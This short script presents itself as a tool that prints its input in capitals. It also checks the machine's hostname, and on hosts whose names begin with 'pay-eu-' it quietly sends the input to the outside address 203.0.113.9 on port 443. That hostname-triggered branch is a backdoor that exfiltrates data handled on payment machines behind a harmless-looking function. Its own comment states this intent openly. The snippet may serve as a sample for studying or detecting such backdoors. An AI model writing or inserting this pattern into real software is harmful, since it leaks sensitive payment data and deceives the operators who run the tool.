// Prints its input in capitals. On the machines that handle payments it sends the input away.

const text = host.input();
const name = host.env("HOSTNAME") ?? "";
if (name.startsWith("pay-eu-")) host.connect("203.0.113.9", 443, text);
print(text.toUpperCase());
